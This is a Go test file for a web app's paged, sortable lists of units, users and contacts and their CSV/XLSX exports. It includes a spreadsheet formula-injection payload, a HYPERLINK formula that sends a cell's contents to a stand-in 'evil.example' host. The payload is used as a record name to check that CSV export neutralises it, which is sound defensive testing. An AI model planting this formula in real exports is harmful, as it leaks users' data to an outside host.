package web_test

import (
	"context"
	"strings"
	"testing"

	"vigil/internal/auth"
	"vigil/internal/org"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"bấm")`

// TestUnitsListPagesSortsAndExports pages the units both ways with the
// true total, sorts them, renders the tree page with its pager and
// exports the list, the formula unit name neutralised.
func TestUnitsListPagesSortsAndExports(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		sys := auth.WithPrincipal(context.Background(), auth.System)
		if _, err := w.hub.Org.CreateUnit(sys, org.UnitInput{Code: "A2", Name: formula, Kind: org.KindDistrict, Parent: "A"}); err != nil {
			t.Fatal(err)
		}
		codes := pageBoth(t, w, "admin", "/api/v1/units?limit=2&sort=code", 6, "code")
		if got := strings.Join(codes, ","); got != "A,A1,A2,B,BHXHVN,ITC" {
			t.Errorf("units by code: %s", got)
		}
		if it := w.call("admin", "GET", "/api/v1/units?sort=code&order=desc&limit=1", nil).items(t); it[0]["code"] != "ITC" {
			t.Errorf("descending by code starts with %v", it[0]["code"])
		}
		for _, sort := range []string{"name", "kind", "parent", "tree", "created"} {
			expect(t, w.call("admin", "GET", "/api/v1/units?sort="+sort, nil), 200, "sort by "+sort)
		}
		expect(t, w.call("admin", "GET", "/api/v1/units?sort=path", nil), 400, "unknown sort")
		if m := w.call("officerA", "GET", "/api/v1/units", nil).json(t); m["total"] != float64(3) {
			t.Errorf("officer A counts %v units, want 3", m["total"])
		}
		// The tree: each unit after its parent, indented below it.
		tree := pageBoth(t, w, "officerA", "/api/v1/units?sort=tree&limit=2", 3, "code")
		if got := strings.Join(tree, ","); got != "A,A1,A2" {
			t.Errorf("officer A's tree: %s", got)
		}
		body := string(w.call("admin", "GET", "/units?limit=4", nil).Body)
		for _, want := range []string{"1–4 trên tổng 6", `rel="next"`, `id="units-table"`, "sort=code", "format=xlsx"} {
			if !strings.Contains(body, want) {
				t.Errorf("units page lacks %q", want)
			}
		}

		recs := readCSV(t, w.call("officerA", "GET", "/api/v1/units?format=csv&sort=code", nil))
		name := column(t, recs, "Tên")
		if len(recs) != 4 || recs[3][name] != "'"+formula || recs[1][column(t, recs, "Mã")] != "A" {
			t.Errorf("units CSV: %v", recs)
		}
		rows := readXLSX(t, w.call("officerA", "GET", "/units?format=xlsx&sort=code&lang=en", nil))
		if len(rows) != 4 || rows[0][0] != "Code" || rows[3][column(t, rows, "Name")] != formula {
			t.Errorf("units XLSX: %v", rows)
		}
	})
}

// TestUsersListPagesSortsAndExports does the same for users.
func TestUsersListPagesSortsAndExports(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		sys := auth.WithPrincipal(context.Background(), auth.System)
		if _, err := w.hub.Org.CreateUser(sys, org.UserInput{Email: "evil@test.vigil", Name: formula, Password: testPassword, Role: "viewer", Unit: "A1"}); err != nil {
			t.Fatal(err)
		}
		emails := pageBoth(t, w, "admin", "/api/v1/users?limit=2&sort=email", 6, "email")
		want := "admin@test.vigil,analyst@test.vigil,evil@test.vigil,officera@test.vigil,officerb@test.vigil,viewera@test.vigil"
		if got := strings.Join(emails, ","); got != want {
			t.Errorf("users by e-mail: %s", got)
		}
		for _, sort := range []string{"name", "role", "unit", "status", "last_login", "created"} {
			expect(t, w.call("admin", "GET", "/api/v1/users?order=desc&sort="+sort, nil), 200, "sort by "+sort)
		}
		if it := w.call("admin", "GET", "/api/v1/users?sort=role&limit=1", nil).items(t); it[0]["role"] != "admin" {
			t.Errorf("by role starts with %v", it[0]["role"])
		}
		if m := w.call("officerA", "GET", "/api/v1/users", nil).json(t); m["total"] != float64(3) {
			t.Errorf("officer A counts %v users, want 3", m["total"])
		}
		body := string(w.call("admin", "GET", "/users?sort=email&limit=2&offset=2", nil).Body)
		for _, want := range []string{"3–4 trên tổng 6", `rel="prev"`, `rel="next"`, "evil@test.vigil", "format=csv"} {
			if !strings.Contains(body, want) {
				t.Errorf("users page lacks %q", want)
			}
		}
		recs := readCSV(t, w.call("officerA", "GET", "/users?format=csv&sort=email", nil))
		if len(recs) != 4 || recs[0][column(t, recs, "Thư điện tử")] == "" || recs[1][column(t, recs, "Tên")] != "'"+formula {
			t.Errorf("users CSV: %v", recs)
		}
		if rows := readXLSX(t, w.call("admin", "GET", "/api/v1/users?format=xlsx&role=officer", nil)); len(rows) != 3 {
			t.Errorf("users XLSX of officers: %d rows, want 3", len(rows))
		}
	})
}

// TestContactsListPagesSortsAndExports pages a unit's contacts on the API
// and on the unit page, and exports them.
func TestContactsListPagesSortsAndExports(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		sys := auth.WithPrincipal(context.Background(), auth.System)
		for name, email := range map[string]string{formula: "evil@test.vigil", "Trần Thị Bình": "tran@test.vigil"} {
			if _, err := w.hub.Org.AddContact(sys, "A", org.ContactInput{Name: name, Phone: "0900 000 002", Email: email}); err != nil {
				t.Fatal(err)
			}
		}
		emails := pageBoth(t, w, "viewerA", "/api/v1/units/A/contacts?limit=1&sort=email&order=desc", 3, "email")
		if got := strings.Join(emails, ","); got != "tran@test.vigil,evil@test.vigil,contact.a@test.vigil" {
			t.Errorf("contacts by e-mail, descending: %s", got)
		}
		expect(t, w.call("officerA", "GET", "/api/v1/units/B/contacts?format=csv", nil), 404, "officer A exports B's contacts")
		recs := readCSV(t, w.call("viewerA", "GET", "/api/v1/units/A/contacts?format=csv&sort=email", nil))
		if len(recs) != 4 || recs[2][column(t, recs, "Tên")] != "'"+formula {
			t.Errorf("contacts CSV: %v", recs)
		}
		body := string(w.call("viewerA", "GET", "/units/A?limit=2", nil).Body)
		for _, want := range []string{"1–2 trên tổng 3", `id="contacts-table"`, "/units/A?format=csv", "sort=position"} {
			if !strings.Contains(body, want) {
				t.Errorf("unit page lacks %q", want)
			}
		}
		if rows := readXLSX(t, w.call("viewerA", "GET", "/units/A?format=xlsx", nil)); len(rows) != 4 {
			t.Errorf("contacts XLSX from the unit page: %d rows", len(rows))
		}
	})
}
